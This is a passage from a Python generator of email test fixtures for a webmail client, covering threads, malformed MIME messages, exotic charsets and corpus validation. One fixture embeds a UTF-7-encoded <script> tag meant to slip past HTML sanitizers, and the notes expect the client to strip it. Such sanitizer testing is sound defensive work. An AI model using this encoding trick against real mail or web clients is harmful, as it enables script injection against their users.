            TMsg("INBOX", C["François"], [ALICE], [C["Zoë"]], D(2026, 9, 14, 10, 0, 0, 1),
                 "Hi Alice,\n\nI shortlisted three venues for the March offsite:\n\n"
                 "  1. Lakeside lodge (60 people, EUR 9,800)\n  2. City hotel (80 people, EUR 12,400)\n"
                 "  3. Mountain hut (40 people, EUR 7,100)\n\nWhich one do you prefer?\n\nFrançois", None, ""),
            TMsg("Sent", ALICE, [C["François"]], [C["Zoë"]], D(2026, 9, 14, 13, 30, 0, 1),
                 "Lakeside lodge, if they have good Wi-Fi. The mountain hut is too small.\n\nAlice", 0),
            TMsg("INBOX", C["François"], [ALICE], [C["Zoë"]], D(2026, 9, 15, 9, 45, 0, 1),
                 "They do: fibre, and they can set up two extra meeting rooms.\nShall I book it?\n\nFrançois", 1),
            TMsg("INBOX", C["Zoë"], [C["François"], ALICE], [], D(2026, 9, 15, 11, 2, 0, 1),
                 "Please book it! I can help with the agenda.\n\nZoë", 2),
        ]),
        ("homepage-mockups", "Website redesign: homepage mockups", [
            TMsg("Projects/Website", C["Erin"], [ALICE], [C["Łukasz"]], D(2026, 10, 12, 9, 0, 0, -8),
                 "Hi Alice,\n\nHere are the first homepage mockups:\nhttps://design.example.test/website/homepage-v1\n\n"
                 "Option A is the minimal hero, option B has the product screenshot.\n\nErin", None, ""),
            TMsg("Sent", ALICE, [C["Erin"]], [C["Łukasz"]], D(2026, 10, 12, 20, 15, 0, 1),
                 "Thanks Erin! I prefer option B, but the screenshot needs to show a real-looking inbox.", 0),
            TMsg("Projects/Website", C["Erin"], [ALICE], [C["Łukasz"]], D(2026, 10, 13, 10, 30, 0, -8),
                 "Updated option B with the demo mailbox:\nhttps://design.example.test/website/homepage-v2\n\nErin", 1),
            TMsg("Projects/Website", C["Łukasz"], [C["Erin"], ALICE], [], D(2026, 10, 13, 14, 5, 0, 1),
                 "v2 looks great. The hero image is 1.8 MB though; I'll need a WebP version.\n\nŁukasz", 2),
            TMsg("Sent", ALICE, [C["Łukasz"], C["Erin"]], [], D(2026, 10, 13, 16, 45, 0, 1),
                 "Agreed on WebP. Let's aim to ship the new homepage next sprint.\n\nAlice", 3),
            TMsg("Projects/Website", C["Erin"], [ALICE, C["Łukasz"]], [], D(2026, 10, 14, 9, 10, 0, -8),
                 "Exported WebP and AVIF versions, 240 KB each. Handing over to Łukasz.\n\nErin", 4),
        ]),
        ("friday-lunch", "Lunch on Friday?", [
            TMsg("INBOX", C["Dave"], [ALICE], [], D(2026, 11, 3, 11, 20, 0, 0),
                 "Hi Alice,\n\nLunch on Friday? The ramen place reopened.\n\nDave", None, ""),
            TMsg("Sent", ALICE, [C["Dave"]], [], D(2026, 11, 3, 11, 48, 0, 1),
                 "Yes please! 12:30?", 0),
            TMsg("INBOX", C["Dave"], [ALICE], [], D(2026, 11, 3, 12, 2, 0, 0),
                 "12:30 works. I'll book a table for two.\n\nDave", 1),
        ]),
        ("key-handover", "Übergabe der Schlüssel", [
            TMsg("INBOX", C["Jürgen"], [ALICE], [], D(2026, 8, 20, 8, 15, 0, 1),
                 "Hallo Alice,\n\nwann passt dir die Übergabe der Büroschlüssel? Ich bin ab Montag im Urlaub.\n\n"
                 "Grüße\nJürgen", None, ""),
            TMsg("Sent", ALICE, [C["Jürgen"]], [], D(2026, 8, 20, 9, 0, 0, 1),
                 "Hallo Jürgen,\n\nFreitag um 15 Uhr am Empfang?\n\nAlice", 0),
            TMsg("INBOX", C["Jürgen"], [ALICE], [], D(2026, 8, 20, 9, 31, 0, 1),
                 "Perfekt, bis Freitag!\n\nJürgen", 1, "AW: "),
        ]),
    ]
    out: list[Fixture] = []
    for tkey, base_subject, msgs in threads:
        ids: list[str] = []
        refs: list[str] = []
        full_texts: list[str] = []
        for i, m in enumerate(msgs):
            subject = base_subject if m.parent is None else m.subject_prefix + base_subject
            mid = make_msgid(f"thread-{tkey}-{i}", m.author.domain, m.date, i)
            if m.parent is None:
                ref_list: list[str] = []
                text = m.text + "\n"
                irt = None
            else:
                p = msgs[m.parent]
                ref_list = refs[m.parent] + [ids[m.parent]]
                irt = ids[m.parent]
                pd = p.date.astimezone(tz(m.author.tz))
                q = "\n".join((">" + l if l.startswith(">") else ("> " + l if l else ">"))
                              for l in full_texts[m.parent].rstrip("\n").split("\n"))
                if m.author.lang == "de":
                    intro = f"Am {pd:%d.%m.%Y um %H:%M} schrieb {p.author.name} <{p.author.email}>:"
                else:
                    intro = f"On {pd:%a, %d %b %Y at %H:%M}, {p.author.name} <{p.author.email}> wrote:"
                text = m.text + "\n\n" + intro + "\n" + q + "\n"
            ids.append(mid)
            refs.append(ref_list)
            full_texts.append(text)
            top = []
            if m.folder != "Sent":
                top.append(("Received", received_header(m.author.domain, ALICE.email, m.date, mid)))
            top += [("Date", fmt_date(m.date)), ("From", fmt_addr(m.author.name, m.author.email)),
                    ("To", addr_header("To", m.to))]
            if m.cc:
                top.append(("Cc", addr_header("Cc", m.cc)))
            if is_ascii(subject):
                subj_hdr = fold_ascii("Subject", subject)
            else:  # keep the reply prefix as plain text, encode the rest (common client behaviour)
                pre = subject[:len(subject) - len(base_subject)]
                subj_hdr = pre + encode_words(base_subject, enc="Q", first_room=60)
            top.append(("Subject", subj_hdr))
            top.append(("Message-ID", mid))
            if irt:
                top.append(("In-Reply-To", irt))
                top.append(("References", fold_ascii("References", " ".join(ref_list))))
            if m.folder == "Sent":
                top.append(("User-Agent", "WebMail/2.3"))
            raw = message(top, text_entity(text, cte=None if is_ascii(text) else "quoted-printable"))
            f = Fixture(m.folder, f"thread-{tkey}-{i + 1}-of-{len(msgs)}", raw, subject, m.date, m.author.display(),
                        ", ".join(p.display() for p in m.to) + (("; Cc: " + ", ".join(p.display() for p in m.cc)) if m.cc else ""),
                        mid, "thread", notes=f"thread '{base_subject}' message {i + 1}/{len(msgs)}"
                        + (f", replies to message {m.parent + 1}" if m.parent is not None else ", thread root"),
                        expect=[max(m.text.split("\n"), key=len)],
                        in_reply_to=irt)
            f._thread = (tkey, base_subject, i, m.parent, ref_list)
            out.append(f)
    return out


# --------------------------------------------------------------------------- malformed


def malformed_fixtures() -> list[Fixture]:
    out: list[Fixture] = []
    base = D(2026, 9, 1, 9, 0, 0, 1)
    ngozi = COLLEAGUE_BY_FIRST["Ngozi"]

    def top(key, subject, date=None, extra=None, sender=ngozi, has_date=True):
        d = date or base
        mid = make_msgid(f"malformed-{key}", sender.domain, d)
        hs = std_top(fmt_addr(sender.name, sender.email), ALICE_TO, fold_ascii("Subject", subject),
                     d if has_date else None, mid, sender_domain=sender.domain, extra=extra)
        return hs, mid, d

    def add(stem, raw, subject, date, mid, notes, expect=(), sender=ngozi):
        out.append(Fixture("INBOX", stem, raw, subject, date, sender.display(), ALICE.display(), mid, "malformed",
                           notes=notes, expect=list(expect)))

    # unclosed boundary
    subj = "Malformed: multipart boundary never closed"
    hs, mid, d = top("unclosed", subj, D(2026, 9, 2, 9, 10, 0, 1))
    b = "unclosed-boundary-7f3a"
    body = (f"This is a multi-part message in MIME format.\r\n--{b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
            f"First part: the closing delimiter of this multipart is missing.\r\n--{b}\r\n"
            f"Content-Type: text/plain; charset=utf-8\r\nContent-Disposition: attachment; filename=\"notes.txt\"\r\n\r\n"
            f"Second part (attachment) runs until the end of the message.\r\n").encode()
    raw = message(hs + [("MIME-Version", "1.0"), ("Content-Type", f'multipart/mixed; boundary="{b}"')], None, body)
    add("malformed-unclosed-boundary", raw, subj, d, mid,
        "multipart/mixed whose final --boundary-- delimiter is missing (message ends inside the 2nd part). "
        "Expected: both parts still shown; no crash.", ["closing delimiter of this multipart is missing"])

    subj = "Malformed: declared boundary never appears"
    hs, mid, d = top("noboundary", subj, D(2026, 9, 2, 9, 20, 0, 1))
    body = ("--some-other-boundary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
            "The Content-Type header declares boundary=\"declared-but-absent\" but the body uses another one.\r\n"
            "--some-other-boundary--\r\n").encode()
    raw = message(hs + [("MIME-Version", "1.0"), ("Content-Type", 'multipart/alternative; boundary="declared-but-absent"')],
                  None, body)
    add("malformed-missing-boundary", raw, subj, d, mid,
        "multipart/alternative with boundary=\"declared-but-absent\" that never occurs in the body. "
        "Expected: body treated as a single text part (or shown raw, containing the sentence 'The Content-Type "
        "header declares boundary=...'); no crash.")

    subj = "Malformed: unknown charset x-unknown-foo"
    hs, mid, d = top("charset", subj, D(2026, 9, 2, 9, 30, 0, 1))
    body = "Unknown charset label. Caf\u00e9 na\u00efve \u2013 these bytes are really UTF-8.\n".encode("utf-8")
    raw = message(hs + [("MIME-Version", "1.0"), ("Content-Type", "text/plain; charset=x-unknown-foo"),
                        ("Content-Transfer-Encoding", "8bit")], None, to_crlf(body))
    add("malformed-unknown-charset", raw, subj, d, mid,
        "text/plain; charset=x-unknown-foo with raw 8-bit (actually UTF-8) bytes. Expected: fallback decoding "
        "(UTF-8 or Latin-1/replacement chars) without an exception.", ["Unknown charset label."])
    out[-1].charset_notice = True

    subj_txt = "Malformed: raw 8-bit header Grüße ☕ naïve"
    d = D(2026, 9, 2, 9, 40, 0, 1)
    mid = make_msgid("malformed-raw8bit", "example.test", d)
    hs = [("Received", received_header("example.org", ALICE.email, d, mid)), ("Date", fmt_date(d)),
          ("From", "Jos\xe9 N\xfa\xf1ez <jose.nunez@example.org>".encode("latin-1")), ("To", ALICE_TO),
          ("Subject", subj_txt.encode("utf-8")), ("Message-ID", mid), ("MIME-Version", "1.0"),
          ("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "7bit")]
    raw = message(hs, None, to_crlf(b"The Subject contains raw UTF-8 bytes and the From display name raw\n"
                                    b"ISO-8859-1 bytes, without RFC 2047 encoding.\n"))
    out.append(Fixture("INBOX", "malformed-raw-8bit-headers", raw, subj_txt, d, "José Núñez <jose.nunez@example.org>",
                       ALICE.display(), mid, "malformed", check_subject=False,
                       notes="Subject has raw UTF-8 bytes (\"Malformed: raw 8-bit header Grüße ☕ naïve\"), From has raw "
                             "ISO-8859-1 bytes (\"José Núñez\" as 0xE9 0xFA 0xF1). Expected: subject shown as UTF-8 "
                             "(RFC 6532 style); From decoded via Latin-1 fallback or replacement characters; no crash.",
                       expect=["The Subject contains raw UTF-8 bytes"]))

    subj = "Malformed: no Content-Type header"
    hs, mid, d = top("noctype", subj, D(2026, 9, 2, 9, 50, 0, 1))
    raw = message(hs + [("MIME-Version", "1.0")], None,
                  to_crlf(b"This message has MIME-Version but no Content-Type and no Content-Transfer-Encoding.\n"
                          b"It must default to text/plain; charset=us-ascii (RFC 2045 section 5.2).\n"))
    add("malformed-missing-content-type", raw, subj, d, mid,
        "no Content-Type / Content-Transfer-Encoding headers at all. Expected: treated as text/plain us-ascii.",
        ["It must default to text/plain"])

    subj = "Malformed: message without a Date header"
    hs, mid, d = top("nodate", subj, D(2026, 9, 2, 10, 0, 0, 1), has_date=False)
    raw = message(hs, text_entity("This message has no Date header. The seeder needs a fallback INTERNALDATE and the\n"
                                  "UI must not crash when sorting or displaying it.\n"))
    out.append(Fixture("INBOX", "malformed-missing-date", raw, subj, None, ngozi.display(), ALICE.display(), mid,
                       "malformed", notes="no Date header (also no Received header). The seeder should use a fixed "
                       "fallback INTERNALDATE (suggested 2026-09-02T10:00:00+01:00); the UI must show an empty/unknown date.",
                       expect=["This message has no Date header."]))

    subj = "Malformed: base64 body with invalid characters"
    hs, mid, d = top("b64", subj, D(2026, 9, 2, 10, 10, 0, 1))
    good = base64.b64encode("Hello Alice, this base64 body is corrupted halfway through.\n".encode()).decode()
    bad = good[:24] + "!!*@#$" + good[24:48] + "\u00a7" + good[48:] + "=\n" + "%%%not-base64%%%\n" + "QUJD" + "=\n"
    raw = message(hs + [("MIME-Version", "1.0"), ("Content-Type", "text/plain; charset=utf-8"),
                        ("Content-Transfer-Encoding", "base64")], None, to_crlf(bad.encode("latin-1")))
    add("malformed-invalid-base64", raw, subj, d, mid,
        "Content-Transfer-Encoding: base64 but the body contains characters outside the base64 alphabet "
        "(! * @ # $ % § -), misplaced '=' padding and a non-base64 line. Expected: lenient decode (skip invalid chars) "
        "or a clear 'cannot decode' notice; no crash. A decoder that skips invalid characters yields text starting "
        "'Hello Alice, this base64 body is corrupted halfway through.' followed by garbage; Python returns the raw "
        "undecoded body.", [])

    subj = "Malformed: badly unbalanced HTML"
    hs, mid, d = top("html", subj, D(2026, 9, 2, 10, 20, 0, 1))
    bad_html = ("<html><head><title>Unbalanced</title>\n<body>\n<div class=\"outer\"><table><tr><td>Cell one<td>Cell two\n"
                "</tr></div></div></span>\n<p><b><i>misnested bold italic</b></i> text</p>\n<ul><li>first<li>second\n"
                "<p>UNBALANCED-MARKER: text after unclosed list</p>\n</td></td></table></table>\n<font color=red><center>"
                "legacy tags never closed\n<a href=\"https://example.test/unterminated>link with an unterminated attribute\n"
                "<!-- an unclosed comment starts here\n")
    raw = message(hs, text_entity(bad_html, "html"))
    add("malformed-unbalanced-html", raw, subj, d, mid,
        "single text/html part with unclosed/misnested tags, stray closing tags, an attribute with a missing closing "
        "quote and an unclosed comment. Expected: sanitizer/renderer repairs it; UNBALANCED-MARKER text is shown; "
        "layout of the page around it is not broken.", ["UNBALANCED-MARKER"])
    return out


# --------------------------------------------------------------------------- charsets


def charset_fixtures() -> list[Fixture]:
    """Folder Charsets: every way a declared character set can be exotic, unknown or broken."""
    out: list[Fixture] = []
    base = D(2026, 10, 14, 8, 0, 0, 1)
    zoe = COLLEAGUE_BY_FIRST["Zoë"]
    yamada = COLLEAGUE_BY_FIRST["山田"]
    wang = Person("王芳", "wang.fang@example.net", "王芳", 8, "zh")
    lin = Person("林怡君", "yijun.lin@example.net", "怡君", 8, "zh")
    kim = Person("김민준", "minjun.kim@example.net", "민준", 9, "ko")
    step = [0]

    def top(key, subject_hdr, sender_hdr, sender_domain="example.test", extra=None):
        step[0] += 1
        d = base + timedelta(hours=3 * step[0])
        mid = make_msgid(f"charset-{key}", sender_domain, d)
        return std_top(sender_hdr, ALICE_TO, subject_hdr, d, mid, sender_domain=sender_domain, extra=extra), mid, d

    def add(stem, raw, subject, date, mid, sender, notes, expect=(), parts="", **kw):
        out.append(Fixture("Charsets", stem, raw, subject, date, sender, ALICE.display(), mid, "charset",
                           notes=notes, expect=list(expect), parts_desc=parts, **kw))

    def utf7_entity(text, subtype="plain", label="utf-7", cte="7bit"):
        data = text.replace("\r\n", "\n").encode("utf-7")
        return Entity([("Content-Type", f'text/{subtype}; charset="{label}"'), ("Content-Transfer-Encoding", cte)],
                      encode_body(data, cte))

    def raw_entity(data, subtype="plain", charset_param='charset="utf-8"', cte="8bit"):
        return Entity([("Content-Type", f"text/{subtype}; {charset_param}"), ("Content-Transfer-Encoding", cte)],
                      encode_body(data, cte))

    utf7_text = ("Hallo Alice,\n\nGrüße aus Zürich! Café, naïve, Straße — and 日本語, Ελληνικά, 😀.\n"
                 "A plus sign stays a plus sign: 1+1=2, C++.\n\nZoë\n")

    subj = "UTF-7 plain text body"
    hs, mid, d = top("utf7-plain", fold_ascii("Subject", subj), fmt_addr(zoe.name, zoe.email))
    add("utf7-plain", message(hs, utf7_entity(utf7_text)), subj, d, mid, zoe.display(),
        "text/plain; charset=utf-7 (RFC 2152), 7bit. .NET refuses Encoding.GetEncoding(\"utf-7\") and MimeKit leaves it "
        "undecoded; the reader must decode it (no notice).",
        ["Grüße aus Zürich! Café, naïve, Straße", "日本語, Ελληνικά, 😀", "1+1=2, C++"], parts="text/plain (utf-7)")

    subj = "UTF-7 alias unicode-1-1-utf-7"
    hs, mid, d = top("utf7-alias", fold_ascii("Subject", subj), fmt_addr(zoe.name, zoe.email))
    add("utf7-alias-unicode-1-1", message(hs, utf7_entity("Alias label, same decoding: Grüße, Zoë.\n", label="unicode-1-1-utf-7")),
        subj, d, mid, zoe.display(), "text/plain; charset=unicode-1-1-utf-7 (an old alias of UTF-7).",
        ["Alias label, same decoding: Grüße, Zoë."], parts="text/plain (unicode-1-1-utf-7)")

    subj = "UTF-7 HTML with a shifted script tag"
    hs, mid, d = top("utf7-html", fold_ascii("Subject", subj), fmt_addr(zoe.name, zoe.email))
    html7 = ("<html><body><p>UTF7-HTML-MARKER: Grüße aus Zürich, café.</p>"
             "<p>The next tag is written in UTF-7 so that only a UTF-7 decoder sees it as a tag; the sanitizer must "
             "remove it.</p></body></html>\n").encode("utf-7")
    html7 = html7.replace(b"</body>", b"+ADw-script+AD4-alert(+ACI-utf7+ACI-)+ADw-/script+AD4-</body>")
    entity = Entity([("Content-Type", 'text/html; charset="utf-7"'), ("Content-Transfer-Encoding", "7bit")], to_crlf(html7))
    add("utf7-html", message(hs, entity), subj, d, mid, zoe.display(),
        "text/html; charset=utf-7 with a <script> element whose angle brackets are UTF-7 shifted (+ADw-script+AD4-). "
        "Decoded, the HTML must still be sanitized: no script in the frame.",
        ["UTF7-HTML-MARKER: Grüße aus Zürich, café."], parts="text/html (utf-7)")

    subj = "UTF-7 in a multipart: quoted-printable text, base64 HTML"
    hs, mid, d = top("utf7-multi", fold_ascii("Subject", subj), fmt_addr(zoe.name, zoe.email))
    alt = multipart("alternative", [
        utf7_entity("Plain alternative: Grüße, Zoë (quoted-printable).\n", cte="quoted-printable"),
        utf7_entity("<p>UTF7-MULTIPART-MARKER: Grüße, Zoë (base64 HTML).</p>\n", "html", cte="base64"),
    ], make_boundary("charset-utf7-multi"))
    add("utf7-multipart-alternative", message(hs, alt), subj, d, mid, zoe.display(),
        "multipart/alternative: text/plain utf-7 quoted-printable and text/html utf-7 base64 (the HTML is shown).",
        ["UTF7-MULTIPART-MARKER: Grüße, Zoë (base64 HTML)."], parts="alternative(text/plain utf-7 QP, text/html utf-7 base64)")

    subj_txt = "Subject in UTF-7: Grüße"
    hs, mid, d = top("utf7-headers", "Subject in UTF-7: =?utf-7?Q?Gr+APwA3w-e?=",
                     "=?utf-7?Q?Zo+AOs_+AMU-ngstr+APY-m?= <zoe.angstrom@example.test>")
    mixed = multipart("mixed", [
        text_entity("The subject, the sender's name and the attachment's name are RFC 2047 words in UTF-7.\n"),
        Entity([("Content-Type", 'text/plain; charset="utf-8";\r\n name="=?utf-7?Q?Pr+APw-fung.txt?="'),
                ("Content-Disposition", 'attachment;\r\n filename="=?utf-7?Q?Pr+APw-fung.txt?="'),
                ("Content-Transfer-Encoding", "7bit")], to_crlf(b"attached notes\n")),
    ], make_boundary("charset-utf7-headers"))
    add("utf7-encoded-words", message(hs, mixed), subj_txt, d, mid, "Zoë Ångström <zoe.angstrom@example.test>",
        "Subject, From display name and attachment file name are =?utf-7?Q?...?= encoded-words; the body is ASCII. "
        "MimeKit leaves UTF-7 encoded-words undecoded; WebMail decodes the subject and sender's name itself "
        "(the attachment's file name still shows its UTF-7 text, without an error).",
        ["are RFC 2047 words in UTF-7"], parts="mixed(text/plain, text/plain attachment)",
        defects_ok=True)

    subj = "Unknown charset with Latin-1 bytes"
    hs, mid, d = top("unknown-latin1", fold_ascii("Subject", subj), fmt_addr(zoe.name, zoe.email))
    add("unknown-charset-latin1", message(hs, raw_entity("Grüße aus Köln, à bientôt.\n".encode("latin-1"),
                                                         charset_param="charset=x-unknown")),
        subj, d, mid, zoe.display(),
        "text/plain; charset=x-unknown, 8bit bytes that are really ISO-8859-1 (not valid UTF-8). Expected: shown as "
        "Latin-1 with a notice naming the charset.",
        [], reader_expect=["Grüße aus Köln, à bientôt."], charset_notice=True, defects_ok=True,
        parts="text/plain (x-unknown)")

    subj = "Empty charset parameter"
    hs, mid, d = top("empty", fold_ascii("Subject", subj), fmt_addr(zoe.name, zoe.email))
    add("empty-charset", message(hs, raw_entity("Empty charset, Latin-1 bytes: Grüße, Zoë.\n".encode("latin-1"),
                                                charset_param='charset=""')),
        subj, d, mid, zoe.display(),
        "text/plain; charset=\"\" with ISO-8859-1 bytes. Expected: shown as Latin-1 with a notice that no charset is declared.",
        ["Empty charset, Latin-1 bytes:"], reader_expect=["Empty charset, Latin-1 bytes: Grüße, Zoë."],
        charset_notice=True, defects_ok=True, parts="text/plain (charset=\"\")")

    subj = "Charset name with a space"
    hs, mid, d = top("space", fold_ascii("Subject", subj), fmt_addr(zoe.name, zoe.email))
    add("bogus-charset-with-space", message(hs, raw_entity("A bogus label, UTF-8 bytes: Grüße, Zoë.\n".encode("utf-8"),
                                                           charset_param='charset="utf 8"')),
        subj, d, mid, zoe.display(),
        "text/plain; charset=\"utf 8\" (not a name anyone knows) with UTF-8 bytes. Expected: UTF-8 fallback with a notice.",
        ["A bogus label, UTF-8 bytes:"], reader_expect=["A bogus label, UTF-8 bytes: Grüße, Zoë."], charset_notice=True,
        defects_ok=True, parts="text/plain (charset=\"utf 8\")")

    subj = "Charset name in single quotes"
    hs, mid, d = top("quotes", fold_ascii("Subject", subj), fmt_addr(zoe.name, zoe.email))
    add("charset-in-single-quotes", message(hs, raw_entity("Quoted label, UTF-8 bytes: Grüße, Zoë.\n".encode("utf-8"),
                                                           charset_param="charset=\"'utf-8'\"")),
        subj, d, mid, zoe.display(),
        "text/plain; charset=\"'utf-8'\" (a sender bug). Expected: the quotes are ignored and UTF-8 is used, no notice.",
        ["Quoted label, UTF-8 bytes:"], reader_expect=["Quoted label, UTF-8 bytes: Grüße, Zoë."], defects_ok=True,
        parts="text/plain (charset='utf-8')")

    subj_txt = "Unknown charset in the subject: café"
    hs, mid, d = top("unknown-subject", "Unknown charset in the subject: =?x-unknown?Q?caf=C3=A9?=",
                     fmt_addr(zoe.name, zoe.email))
    add("unknown-charset-encoded-word", message(hs, text_entity("The subject's encoded-word names charset x-unknown.\n")),
        subj_txt, d, mid, zoe.display(),
        "Subject has an =?x-unknown?Q?...?= encoded-word whose bytes are UTF-8. Expected: shown with a UTF-8 guess, "
        "never an exception.", ["encoded-word names charset x-unknown"], check_subject=False,
        reader_subject_prefix="Unknown charset in the subject: café", defects_ok=True, parts="text/plain")

    subj = "会議の資料（ISO-2022-JP）"
    hs, mid, d = top("iso2022jp", subject_value(subj, "B", "iso-2022-jp", "ISO-2022-JP"),
                     fmt_addr(yamada.name, yamada.email, "iso-2022-jp", "ISO-2022-JP", "B"), yamada.domain)
    add("iso-2022-jp", message(hs, text_entity("アリスさん\n\n明日の会議の資料を送ります。\n\n山田\n", charset="iso-2022-jp",
                                               label="ISO-2022-JP", cte="7bit")),
        subj, d, mid, yamada.display(), "text/plain; charset=ISO-2022-JP (7bit escape sequences); subject and From in "
        "=?ISO-2022-JP?B?...?= encoded-words.", ["明日の会議の資料を送ります。"], parts="text/plain (ISO-2022-JP)")

    subj = "季度报告（GB18030）"
    hs, mid, d = top("gb18030", subject_value(subj, "B", "gb18030", "GB18030"),
                     fmt_addr(wang.name, wang.email, "gb18030", "GB18030", "B"), wang.domain)
    add("gb18030-base64", message(hs, text_entity("爱丽丝，你好！\n\n第三季度的报告已经完成，请查收。\n\n王芳\n", charset="gb18030",
                                                  label="GB18030", cte="base64")),
        subj, d, mid, wang.display(), "text/plain; charset=GB18030, base64; subject and From in GB18030 encoded-words.",
        ["第三季度的报告已经完成，请查收。"], parts="text/plain (GB18030, base64)")

    subj = "會議記錄（Big5）"
    hs, mid, d = top("big5", subject_value(subj, "B", "big5", "Big5"),
                     fmt_addr(lin.name, lin.email, "big5", "Big5", "B"), lin.domain)
    add("big5-qp", message(hs, text_entity("愛麗絲您好：\n\n附上今天的會議記錄，謝謝。\n\n怡君\n", charset="big5", label="Big5",
                                           cte="quoted-printable")),
        subj, d, mid, lin.display(), "text/plain; charset=Big5, quoted-printable; subject and From in Big5 encoded-words.",
        ["附上今天的會議記錄，謝謝。"], parts="text/plain (Big5, quoted-printable)")

    subj = "회의 안내 (EUC-KR HTML)"
    hs, mid, d = top("euckr", subject_value(subj, "B", "euc-kr", "EUC-KR"),
                     fmt_addr(kim.name, kim.email, "euc-kr", "EUC-KR", "B"), kim.domain)
    add("euc-kr-html", message(hs, text_entity("<html><body><p>앨리스님, 다음 주 회의 안내입니다.</p></body></html>\n", "html",
                                               charset="euc-kr", label="EUC-KR", cte="base64")),
        subj, d, mid, kim.display(), "text/html; charset=EUC-KR, base64 (a code page .NET only has through "
        "CodePagesEncodingProvider).", ["다음 주 회의 안내입니다."], parts="text/html (EUC-KR, base64)")
    return out


# --------------------------------------------------------------------------- validation


# Non-malformed fixtures that are deliberately non-conformant in a way real mailers produce.
ALLOWED_DEFECTS = {
    # RFC 2047 encoded-word inside a quoted name="..."/filename="..." parameter (Outlook/old mailers);
    # RFC 2047 section 5 forbids it, Python flags it but still decodes the name correctly.
    "rfc2047-encoded-attachment-name.eml": {"InvalidHeaderDefect"},
}


def header_defects(msg) -> list:
    found = []
    for part in msg.walk():
        for _, value in part.items():
            for d in getattr(value, "defects", ()):
                found.append(type(d).__name__)
    return found


def parse_and_collect(raw: bytes):
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    defects = header_defects(msg)
    errors = []
    for part in msg.walk():
        if part.is_multipart():
            continue
        try:
            if part.get_content_maintype() == "text":
                part.get_content()
            else:
                part.get_payload(decode=True)
        except Exception as e:  # noqa: BLE001
            errors.append(f"{type(e).__name__}: {e}")
    for part in msg.walk():
        defects += [type(d).__name__ for d in part.defects]
    return msg, defects, errors


def text_of(msg) -> str:
    chunks = []
    for part in msg.walk():
        if part.get_content_maintype() == "text" and not part.is_attachment():
            try:
                chunks.append(part.get_content())
            except LookupError:  # unknown charset: fall back like a lenient client would
                chunks.append((part.get_payload(decode=True) or b"").decode("utf-8", "replace"))
    return "\n".join(chunks)


def check_crlf(raw: bytes) -> bool:
    return b"\n" not in raw.replace(b"\r\n", b"") and b"\r" not in raw.replace(b"\r\n", b"")


def validate(root: Path, fixtures: list[Fixture] | None) -> list[str]:
    problems: list[str] = []
    by_path = {f.relpath: f for f in fixtures} if fixtures else {}
    ids: dict[str, str] = {}
    subjects: list[tuple[str, str]] = []
    files = sorted(root.rglob("*.eml"))
    for path in files:
        rel = path.relative_to(root).as_posix()
        raw = path.read_bytes()
        malformed = path.name.startswith("malformed-")
        if not check_crlf(raw):
            problems.append(f"{rel}: not pure CRLF")
        if any(len(line) > 998 for line in raw.split(b"\r\n")):
            problems.append(f"{rel}: line longer than 998 octets")
        msg, defects, errors = parse_and_collect(raw)
        defects = [d for d in defects if d not in ALLOWED_DEFECTS.get(path.name, ())]
        lenient = rel in by_path and by_path[rel].defects_ok
        if not malformed and not lenient and (defects or errors):
            problems.append(f"{rel}: defects {defects} errors {errors}")
        mid = msg["Message-ID"]
        if not mid:
            problems.append(f"{rel}: no Message-ID")
        elif str(mid) in ids:
            problems.append(f"{rel}: duplicate Message-ID with {ids[str(mid)]}")
        else:
            ids[str(mid)] = rel
        if msg["Date"] is None and "missing-date" not in path.name:
            problems.append(f"{rel}: no Date")
        if msg["Date"] is not None:
            dt = msg["Date"].datetime
            if dt is None or not (CORPUS_START - timedelta(days=1) <= dt <= CORPUS_END):
                problems.append(f"{rel}: Date out of range: {msg['Date']}")
        if msg["From"] is None or msg["Subject"] is None:
            problems.append(f"{rel}: missing From/Subject")
        subjects.append((rel, str(msg["Subject"])))
        f = by_path.get(rel)
        if f is not None:
            if f.check_subject and str(msg["Subject"]) != f.subject:
                problems.append(f"{rel}: subject {str(msg['Subject'])!r} != expected {f.subject!r}")
            txt = text_of(msg)
            for snip in f.expect:
                if snip not in txt:
                    problems.append(f"{rel}: expected snippet not found: {snip!r}")
            if f.kind != "malformed":
                a = msg["From"].addresses[0]
                shown = f"{a.display_name} <{a.addr_spec}>" if a.display_name else a.addr_spec
                if shown != f.sender:
                    problems.append(f"{rel}: From decodes to {shown!r}, expected {f.sender!r}")
            if f.folder.startswith("_bob") and not f.subject.startswith("[Bob] "):
                problems.append(f"{rel}: bob subject without [Bob] prefix")
            if not f.folder.startswith("_bob") and "[Bob]" in f.subject:
                problems.append(f"{rel}: alice mail with [Bob] in subject")
            if f.folder == "Sent" and "alice@example.test" not in str(msg["From"]):
                problems.append(f"{rel}: Sent message not from alice")
    # special subjects must be findable uniquely (substring, case-insensitive)
    if fixtures:
        for f in fixtures:
            if f.kind not in ("special", "malformed", "charset") or not f.check_subject:
                continue
            hits = [r for r, s in subjects if f.subject.lower() in s.lower()]
            if hits != [f.relpath]:
                problems.append(f"{f.relpath}: subject {f.subject!r} matches {hits}")
        # thread structure
        for f in fixtures:
            t = getattr(f, "_thread", None)
            if not t:
                continue
            msg = BytesParser(policy=policy.default).parsebytes((root / f.relpath).read_bytes())
            refs = str(msg.get("References", "")).split()
            if refs != t[4]:
                problems.append(f"{f.relpath}: References mismatch")
            if t[3] is not None and str(msg["In-Reply-To"]) != t[4][-1]:
                problems.append(f"{f.relpath}: In-Reply-To mismatch")
    total = sum(p.stat().st_size for p in files)
    if total > 8 * 1024 * 1024:
        problems.append(f"corpus too large: {total} bytes")
    return problems


# --------------------------------------------------------------------------- README


def md_escape(s: str) -> str:
    return s.replace("|", "\\|").replace("<", "&lt;").replace(">", "&gt;")


def write_readme(fixtures: list[Fixture]) -> None:
    counts: dict[str, int] = {}
    sizes: dict[str, int] = {}
    for f in fixtures:
        counts[f.folder] = counts.get(f.folder, 0) + 1
        sizes[f.folder] = sizes.get(f.folder, 0) + len(f.raw)
    total = sum(len(f.raw) for f in fixtures)
    unread = sorted(f.relpath for f in fixtures if f.unread)
    flagged = sorted(f.relpath for f in fixtures if f.flagged)
    L = []
    L.append("# Mail fixture corpus\n")
    L.append("Generated by `tests/Fixtures/generate_corpus.py` (Python 3 standard library only, fixed seed "
             f"{SEED}, no dependency on the current time). **Do not edit the `.eml` files or this README by hand** — "
             "change the generator and run `python3 tests/Fixtures/generate_corpus.py`; it rewrites every `*.eml` "
